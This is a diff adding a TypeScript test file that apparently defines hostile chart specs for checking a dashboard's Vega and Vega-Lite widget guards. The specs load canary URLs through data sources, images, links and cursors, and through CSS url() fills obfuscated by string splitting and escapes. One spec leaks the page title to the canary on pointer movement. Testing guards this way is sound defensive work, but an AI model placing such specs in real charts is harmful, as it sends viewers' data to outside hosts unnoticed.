@@ -1,0 +1,116 @@
+import { type Aim, type ReportOf, type Shown, type WidgetAttack } from './attack.ts'
+import { compileGuard } from './guards.ts'
+
+const checks = ['charts are checked when saved', compileGuard] as const
+const loader = 'charts load nothing'
+const paint = 'charts are painted with colours'
+
+const x = { field: 'orders.status', type: 'nominal' }
+const y = { field: 'orders.count', type: 'quantitative' }
+const bar = { mark: 'bar', encoding: { x, y } }
+const room = { width: 200, height: 100 }
+const data = [{ name: 'rows' }]
+const everywhere = { x: { value: 0 }, y: { value: 0 }, width: { value: 200 }, height: { value: 100 } }
+
+const chart = (
+  name: string,
+  guards: readonly string[],
+  report: (aim: Aim) => Pick<ReportOf, 'spec' | 'vega' | 'dimensions'>,
+  more: { isAlone?: boolean; act?: WidgetAttack['act'] } = {},
+): WidgetAttack => ({
+  name,
+  guards,
+  board: more.isAlone ? name : 'charts',
+  widget: (aim) => ({ report: { kind: 'vega', ...report(aim) } }),
+  ...(more.act ? { act: more.act } : {}),
+})
+
+/** The mark that an attack is drawn as, found by the widget that it is in. */
+const overMark =
+  (name: string, isPressed = false) =>
+  async ({ frame }: Shown): Promise<void> => {
+    const mark = frame.locator(`[data-widget="${name}"] .mark-rect path, [data-widget="${name}"] .mark-image image`).first()
+    if ((await mark.count()) === 0) return
+    await mark.hover({ force: true })
+    if (isPressed) await mark.click({ force: true, noWaitAfter: true })
+  }
+
+const address = (aim: Aim, name: string): string => `${aim.canary}/${name}`
+
+/** Charts of an author, and rows that somebody else wrote. */
+export const chartAttacks: readonly WidgetAttack[] = [
+  chart('c-data', [...checks, loader, 'page: connect-src'], (aim) => ({
+    spec: { ...bar, data: { url: address(aim, 'c-data') } },
+    vega: { ...room, data: [...data, { name: 'more', url: address(aim, 'c-data') }], marks: [] },
+  })),
+  chart('c-image', [...checks, loader], (aim) => ({
+    spec: { mark: { type: 'image', url: address(aim, 'c-image') }, encoding: { x, y } },
+    vega: { ...room, data, marks: [{ type: 'image', encode: { enter: { ...everywhere, url: { value: address(aim, 'c-image') } } } }] },
+  })),
+  chart(
+    'c-link',
+    [...checks, loader],
+    (aim) => ({
+      spec: { ...bar, mark: { type: 'bar', href: address(aim, 'c-link') } },
+      vega: {
+        ...room,
+        data,
+        marks: [{ type: 'rect', encode: { enter: { ...everywhere, fill: { value: 'red' }, href: { value: address(aim, 'c-link') } } } }],
+      },
+    }),
+    { isAlone: true, act: overMark('c-link', true) },
+  ),
+  chart(
+    'c-cursor',
+    checks,
+    (aim) => ({
+      spec: { ...bar, mark: { type: 'bar', cursor: { expr: `'ur' + 'l(${address(aim, 'c-cursor')}), auto'` } } },
+      vega: {
+        ...room,
+        data,
+        marks: [
+          {
+            type: 'rect',
+            encode: { enter: { ...everywhere, fill: { value: 'red' }, cursor: { value: `url(${address(aim, 'c-cursor')}), auto` } } },
+          },
+        ],
+      },
+    }),
+    { act: overMark('c-cursor') },
+  ),
+  chart(
+    'c-read',
+    [...checks, paint],
+    (aim) => ({
+      spec: { ...bar, mark: { type: 'bar', fill: { expr: `'ur' + 'l(${address(aim, 'c-read')}?' + event.view.document.title + '#a)'` } } },
+      vega: {
+        ...room,
+        data,
+        signals: [{ name: 'leak', value: '', on: [{ events: 'pointermove', update: 'event.view.document.title' }] }],
+        marks: [
+          {
+            type: 'rect',
+            encode: {
+              enter: everywhere,
+              update: { fill: { signal: `leak ? 'url(${address(aim, 'c-read')}?' + leak + '#a)' : 'red'` } },
+            },
+          },
+        ],
+      },
+    }),
+    { act: overMark('c-read') },
+  ),
+  chart('c-fill-expression', [paint], (aim) => ({
+    spec: { ...bar, mark: { type: 'bar', fill: { expr: `'ur' + 'l(${address(aim, 'c-fill-expression')}#a)'` } } },
+  })),
+  chart('c-stroke-expression', [paint], (aim) => ({
+    spec: { ...bar, mark: { type: 'bar', stroke: { expr: `'ur' + 'l(${address(aim, 'c-stroke-expression')}#a)'` } } },
+  })),
+  chart('c-fill-escaped', [paint], (aim) => ({
+    spec: { ...bar, mark: { type: 'bar', fill: `u\\72l(${address(aim, 'c-fill-escaped')}#a)` } },
+  })),
+  chart('c-fill-rows', [paint], () => ({
+    spec: { ...bar, encoding: { x, y, color: { field: 'orders.paint', scale: null } } },
+    dimensions: ['orders.status', 'orders.paint'],
+  })),
+]
